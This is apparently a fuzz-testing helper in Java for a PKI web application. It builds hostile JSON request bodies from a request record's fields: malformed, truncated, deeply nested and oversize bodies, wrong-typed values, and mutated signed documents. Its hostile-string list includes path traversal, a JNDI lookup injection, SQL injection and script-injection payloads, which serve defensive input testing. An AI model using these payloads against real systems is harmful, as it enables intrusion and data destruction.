package org.mjpki.webapp.fuzz;

import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Hostile JSON bodies for a request record (its component names and types read by reflection, so a field added later
 * is fuzzed too): the expected shape with garbage or mutated signed documents in it, one value of a wrong type, hostile
 * strings, missing, unknown and repeated fields, malformed, truncated and deeply nested JSON, other top-level values,
 * invalid UTF-8, and bodies just under and over the family's size limit.
 */
final class HostileJson {

    /** A body and how it was made; {@code shown} is false when the bytes hold a signed document (the test holder's). */
    record Body(byte[] bytes, String how, boolean shown) {
        static Body text(String json, String how) {
            return new Body(json.getBytes(StandardCharsets.UTF_8), how, true);
        }
    }

    private static final String[] WRONG_VALUES = {"0", "-1", "1", "123456789012345678901234567890123456789012345678901234567890",
        "1e308", "-1e309", "1e99999999", "0.0000000000000000000000001", "-0", "true", "false", "null", "[]", "[null]", "[1,2,3]",
        "[\"AAAA\"]", "{}", "{\"a\":1}", "{\"$ref\":\"#\"}", "\"\"", "\" \"", "\"null\"", "\"undefined\"", "\"NaN\"",
        "[[[[[[[[[[]]]]]]]]]]", "{\"\":{\"\":{\"\":{}}}}", "9223372036854775808", "-9223372036854775809"};

    private static final String[] HOSTILE_STRINGS = {"", " ", "\t\n", "\\u0000", "\\u0000AAAA", "AAAA\\u0000", "\\ud800",
        "\\udc00\\ud800", "\\uffff", "\\u202e", "\\u00e9t\\u00e9", "\\u30de\\u30a4\\u30ca\\u30f3\\u30d0\\u30fc",
        "\\ud83d\\ude00", "AAAA====", "A", "AA", "AAA", "====", "-_-_", "+/+/", "AAAA AAAA", "AAAA\\nAAAA", "AAAA\\r\\nAAAA",
        "!!!!", "%00", "%2e%2e", "../../etc/passwd", "${jndi:ldap://example.invalid/a}", "'; DROP TABLE x; --",
        "<script>alert(1)</script>", "0x00", "\\\\x00", "null", "true", "0"};

    private final Random random;
    private final HostileBytes bytes;
    /** Real signed documents (used or expired, so none can start anything), by the field that carries them. */
    private final Map<String, List<byte[]>> documents;
    /** Real string values (an attestation token), by field. */
    private final Map<String, List<String>> strings;
    private final int limit;

    HostileJson(Random random, Map<String, List<byte[]>> documents, Map<String, List<String>> strings, int limit) {
        this.random = random;
        this.bytes = new HostileBytes(random);
        this.documents = documents;
        this.strings = strings;
        this.limit = limit;
    }

    /** A hostile body for {@code type}, or for no type at all (a body nobody reads). */
    Body next(Class<?> type) {
        int pick = random.nextInt(100);
        if (type == null || !type.isRecord()) {
            return pick < 50 ? topLevel() : pick < 75 ? malformed("{\"a\":\"AAAA\"}") : garbage();
        }
        if (pick < 30) {
            return plausible(type);
        }
        if (pick < 48) {
            return wrongType(type);
        }
        if (pick < 62) {
            return hostileString(type);
        }
        if (pick < 70) {
            return malformed(shape(type, null, null));
        }
        if (pick < 77) {
            return truncated(shape(type, null, null));
        }
        if (pick < 82) {
            return fields(type);
        }
        if (pick < 86) {
            return topLevel();
        }
        if (pick < 89) {
            return nested();
        }
        if (pick < 93) {
            return garbage();
        }
        return atTheLimit(type);
    }

    // ---- the expected shape

    private Body plausible(Class<?> type) {
        StringBuilder how = new StringBuilder();
        boolean[] document = {false};
        String json = shape(type, (name, valueType) -> {
            Value v = plausibleValue(name);
            if (!v.shown) {
                document[0] = true;
            }
            how.append(how.length() == 0 ? "" : "; ").append(name).append(": ").append(v.how);
            return v.json;
        }, null);
        return new Body(json.getBytes(StandardCharsets.UTF_8), "expected shape, " + how, !document[0]);
    }

    private record Value(String json, String how, boolean shown) {}

    private Value plausibleValue(String field) {
        List<byte[]> docs = documents.getOrDefault(field, List.of());
        List<String> texts = strings.getOrDefault(field, List.of());
        int pick = random.nextInt(10);
        if (!docs.isEmpty() && pick < 6) {
            byte[] seed = docs.get(random.nextInt(docs.size()));
            // one change only: more could turn the used application into a new one (new id and new nonce) that parses
            HostileBytes.Variant v = bytes.mutate(seed, 1);
            return new Value(quote(Base64.getEncoder().encodeToString(v.bytes())), "signed document, " + v.how(), false);
        }
        if (!texts.isEmpty() && pick < 6) {
            String seed = texts.get(random.nextInt(texts.size()));
            HostileBytes.Variant v = bytes.mutate(seed.getBytes(StandardCharsets.US_ASCII), 1);
            return new Value(quote(new String(v.bytes(), StandardCharsets.ISO_8859_1)), "real token, " + v.how(), false);
        }
        byte[] b = bytes.randomBytes(pick < 8 ? 600 : 4000);
        return new Value(quote(Base64.getEncoder().encodeToString(b)), "base64 of " + b.length + " random bytes", true);
    }

    /** The record as JSON; {@code values} gives each string leaf (null: a short base64 string). */
    private String shape(Class<?> type, Leaf values, String skip) {
        StringBuilder json = new StringBuilder("{");
        for (RecordComponent c : type.getRecordComponents()) {
            if (c.getName().equals(skip)) {
                continue;
            }
            if (json.length() > 1) {
                json.append(',');
            }
            json.append(quote(c.getName())).append(':').append(value(c.getName(), c.getGenericType(), values));
        }
        return json.append('}').toString();
    }

    private interface Leaf {
        String json(String name, Type type);
    }

    private String value(String name, Type type, Leaf values) {
        if (type instanceof ParameterizedType p && p.getRawType() == List.class) {
            Type element = p.getActualTypeArguments()[0];
            List<String> items = new ArrayList<>();
            // two entries: what a well-formed request carries (one per key)
            for (int i = 0; i < 2; i++) {
                items.add(value(name, element, values));
            }
            return "[" + String.join(",", items) + "]";
        }
        if (type instanceof Class<?> c && c.isRecord()) {
            return shape(c, values, null);
        }
        if (type == String.class && name.equals("keyRole")) {
            return quote(random.nextBoolean() ? "SIGNING" : "USER_AUTH");
        }
        return values == null ? quote("AAAA") : values.json(name, type);
    }

    // ---- one thing wrong

    private Body wrongType(Class<?> type) {
        String field = leafName(type);
        String wrong = WRONG_VALUES[random.nextInt(WRONG_VALUES.length)];
        String json = shape(type, (name, t) -> name.equals(field) ? wrong : quote("AAAA"), null);
        if (random.nextInt(4) == 0) {
            // a container itself of the wrong kind, or with a null entry
            String container = firstComponent(type);
            String[] options = {"null", "[null,null]", "[null]", "[{},{}]", "[1,2]", "\"AAAA\"", "{}", "[[],[]]", "[\"SIGNING\",\"USER_AUTH\"]"};
            String replacement = options[random.nextInt(options.length)];
            json = shape(type, (name, t) -> quote("AAAA"), container);
            json = json.length() > 2 ? json.replaceFirst("\\{", "{" + quote(container) + ":" + escapeReplacement(replacement) + ",")
                    : "{" + quote(container) + ":" + replacement + "}";
            return Body.text(json, "wrong type: " + container + "=" + replacement);
        }
        return Body.text(json, "wrong type: " + field + "=" + wrong);
    }

    private Body hostileString(Class<?> type) {
        String field = leafName(type);
        String hostile;
        int pick = random.nextInt(6);
        if (pick < 3) {
            hostile = "\"" + HOSTILE_STRINGS[random.nextInt(HOSTILE_STRINGS.length)] + "\"";
        } else if (pick == 3) {
            // a raw control character inside a string: not JSON
            hostile = "\"AA" + (char) random.nextInt(0x20) + "AA\"";
        } else if (pick == 4) {
            hostile = quote(randomUnicode(1 + random.nextInt(200)));
        } else {
            hostile = quote("A".repeat(1 + random.nextInt(20_000)));
        }
        String json = shape(type, (name, t) -> name.equals(field) ? hostile : quote("AAAA"), null);
        return Body.text(json, "hostile string in " + field);
    }

    private Body fields(Class<?> type) {
        String field = firstComponent(type);
        return switch (random.nextInt(4)) {
            case 0 -> Body.text(shape(type, null, field), "without " + field);
            case 1 -> Body.text("{\"unexpected\":\"AAAA\",\"@type\":\"Runtime\"," + shape(type, null, null).substring(1),
                    "unknown fields added");
            case 2 -> Body.text("{" + quote(field) + ":\"AAAA\"," + shape(type, null, null).substring(1), "field " + field + " twice");
            default -> Body.text("{" + quote(field.toUpperCase(java.util.Locale.ROOT)) + ":\"AAAA\"}", "field name in other case");
        };
    }

    // ---- not the JSON expected at all

    private Body topLevel() {
        String[] values = {"", " ", "\n", "null", "true", "0", "-1", "\"AAAA\"", "[]", "[{}]", "{}", "{\"a\":null}", "\uFEFF{}",
            "{}{}", "{} trailing", "[1,2,3]", "1e99999", "\"\\u0000\""};
        String json = values[random.nextInt(values.length)];
        return Body.text(json, "top-level value");
    }

    private Body malformed(String valid) {
        String[] breaks = {"{", "}", "[", "]", ",", ":", "\"", "'", "\\", "//", "/*", "NaN", "Infinity", "undefined", ",,", "{{", "\u0000"};
        int at = random.nextInt(valid.length() + 1);
        String inserted = breaks[random.nextInt(breaks.length)];
        String json = random.nextBoolean() ? valid.substring(0, at) + inserted + valid.substring(at)
                : valid.substring(0, at) + valid.substring(Math.min(valid.length(), at + 1 + random.nextInt(3)));
        return Body.text(json, "malformed JSON");
    }

    private Body truncated(String valid) {
        int at = random.nextInt(Math.max(1, valid.length()));
        return Body.text(valid.substring(0, at), "truncated JSON at " + at);
    }

    private Body nested() {
        int depth = new int[] {100, 999, 1001, 5000, 20_000}[random.nextInt(5)];
        boolean arrays = random.nextBoolean();
        String open = arrays ? "[" : "{\"a\":";
        String close = arrays ? "]" : "}";
        boolean closed = random.nextBoolean();
        String json = open.repeat(depth) + "1" + (closed ? close.repeat(depth) : "");
        return Body.text(json, (closed ? "" : "unclosed ") + (arrays ? "arrays" : "objects") + " nested " + depth + " deep");
    }

    private Body garbage() {
        byte[] b = bytes.randomBytes(2000);
        return new Body(b, b.length + " random bytes", false);
    }

    /** A body just under or just over the family's limit: under it is read and refused, over it is never read. */
    private Body atTheLimit(Class<?> type) {
        String field = leafName(type);
        String prefix = "{" + quote(field) + ":\"";
        String suffix = "\"}";
        int target = limit + (random.nextBoolean() ? -(1 + random.nextInt(64)) : 1 + random.nextInt(64));
        int fill = Math.max(0, target - prefix.length() - suffix.length());
        return Body.text(prefix + "A".repeat(fill) + suffix, "body of " + target + " bytes (limit " + limit + ") in " + field);
    }

    // ---- helpers

    /** The name of a random string leaf of the record (nested records and lists included). */
    private String leafName(Class<?> type) {
        List<String> leaves = new ArrayList<>();
        collectLeaves(type, leaves);
        return leaves.isEmpty() ? "a" : leaves.get(random.nextInt(leaves.size()));
    }

    private static void collectLeaves(Type type, List<String> leaves) {
        if (type instanceof Class<?> c && c.isRecord()) {
            for (RecordComponent rc : c.getRecordComponents()) {
                Type t = rc.getGenericType();
                if (t instanceof ParameterizedType p) {
                    collectLeaves(p.getActualTypeArguments()[0], leaves);
                } else if (t instanceof Class<?> inner && inner.isRecord()) {
                    collectLeaves(inner, leaves);
                } else {
                    leaves.add(rc.getName());
                }
            }
        }
    }

    private static String firstComponent(Class<?> type) {
        RecordComponent[] components = type.getRecordComponents();
        return components.length == 0 ? "a" : components[0].getName();
    }

    private String randomUnicode(int n) {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < n; i++) {
            int cp;
            do {
                cp = random.nextInt(4) == 0 ? random.nextInt(0x80) : random.nextInt(0x10FFFF);
            } while (Character.getType(cp) == Character.SURROGATE);
            s.appendCodePoint(cp);
        }
        return s.toString();
    }

    private static String escapeReplacement(String s) {
        return java.util.regex.Matcher.quoteReplacement(s);
    }

    /** A JSON string literal (escaped as JSON requires). */
    static String quote(String s) {
        StringBuilder out = new StringBuilder("\"");
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }
}
